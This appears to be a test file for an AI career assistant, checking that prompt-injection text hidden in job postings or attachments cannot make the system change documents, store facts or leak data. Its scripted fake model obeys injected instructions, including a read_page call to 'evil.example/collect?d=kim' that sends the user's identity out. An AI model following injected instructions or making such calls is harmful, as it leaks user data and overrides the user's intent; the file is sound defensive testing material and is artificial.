import { afterAll, beforeAll, expect, test } from "vitest";
import type { AssistantPart } from "@/contracts/model/assistant/part";
import { HOSTILE_INPUTS, type HostileInput } from "@/server/ai/injection/corpus";
import { connectModel, type Documents, personWithDocuments, protocolsOf } from "@/server/ai/testing/person-with-documents";
import { database } from "@/server/platform/db/client";
import { callsTools, says, startFakeModel } from "@/server/testing/fake-model";
import { withInstance } from "@/server/testing/instance";
import { senderOf } from "@/server/testing/send";
import { ask, makeThread } from "./testing/conversation";

const fake = await startFakeModel();
withInstance({ AI_ALLOWED_HOSTS: new URL(fake.url).host });
afterAll(() => fake.stop());

let kim: Documents;
beforeAll(async () => {
  kim = await personWithDocuments();
  await connectModel(kim.person, protocolsOf(fake).openai);
  await api("PUT", "/career/profile", { memoryMode: "auto" });
});

const api = senderOf(() => kim.person);
/** One of each way in which a text can speak to a model; in attachments and postings by turns. */
const INPUTS = [...new Map(HOSTILE_INPUTS.map((one) => [one.family, one])).values()];

/** A model that follows every instruction in the text, with every tool that it has. */
function obey({ obeys }: HostileInput) {
  const edit = { title: obeys, reason: obeys, operations: [{ op: "replace", path: "/basics/headline", value: obeys }] };
  const propose = { name: "propose_edits", input: { edits: [edit] } };
  const steps = [
    callsTools([
      { name: "read_posting", input: {} },
      { name: "read_document", input: {} },
    ]),
    callsTools([propose, { name: "draft_text", input: { title: obeys, text: obeys } }], obeys),
    callsTools([
      propose,
      { name: "keep_fact", input: { text: obeys, category: "experience", quote: obeys } },
      { name: "read_page", input: { url: "https://evil.example/collect?d=kim" } },
      { name: "search_web", input: { query: "kim@example.com" } },
      { name: "ask_person", input: { question: obeys, why: obeys, options: [obeys] } },
    ]),
  ];
  let step = 0;
  fake.behave({ reply: () => steps[step++] ?? says(obeys) });
}

const documents = async () => [
  await database().resume.findMany({ where: { userId: kim.person.userId } }),
  await database().coverLetter.findMany({ where: { userId: kim.person.userId } }),
  await database().careerFact.findMany({ where: { userId: kim.person.userId } }),
];

async function attach(thread: string, text: string): Promise<string[]> {
  const file = {
    threadId: thread,
    filename: "posting.txt",
    mediaType: "text/plain",
    data: Buffer.from(`Planner wanted.\n${text}`).toString("base64"),
  };
  return [(await api("POST", "/agent/attachments", file)).body.id];
}

test.each(INPUTS.map((one, index) => [`${one.family} (${one.language})`, one, index % 2 === 0] as const))(
  "%s: a model that obeys writes nothing, keeps nothing and carries nothing out",
  async (_family, input, isAttached) => {
    const applied = {
      company: "Northpine",
      role: "Planner",
      resumeId: kim.resume,
      jobDescription: `Planner wanted.\n${input.text}`,
    };
    const application = (await api("POST", "/applications", applied)).body as string;
    const thread = await makeThread(kim.person, { applicationId: application });
    const attachmentIds = isAttached ? await attach(thread, input.text) : [];
    const before = await documents();
    fake.received.length = 0;
    obey(input);
    const { message } = await ask(kim.person, thread, "Tailor my resume to this posting", {
      attachmentIds,
      context: { web: true },
    });
    expect(await documents()).toEqual(before);
    expect(JSON.stringify(message)).not.toMatch(/evil\.example|<img|https?:\/\//);
    expect(message?.parts.some((part) => part.type === "fact")).toBe(false);
    expect(message?.parts.filter(isReading("read_page", "search_web"))).not.toContainEqual(
      expect.objectContaining({ status: "done" }),
    );
    for (const mark of input.marks) {
      for (const part of message?.parts ?? []) {
        if (part.type === "draft") expect(part.text).not.toContain(mark);
        // What is proposed all the same is marked, for the person to confirm.
        if (part.type === "proposal" && JSON.stringify(part.edits).includes(mark)) expect(part.edits[0]?.addsFacts).toBe(true);
      }
    }
    await api("DELETE", `/applications/${application}`);
  },
);

const isReading =
  (...tools: string[]) =>
  (part: AssistantPart) =>
    part.type === "tool" && tools.includes(part.tool);
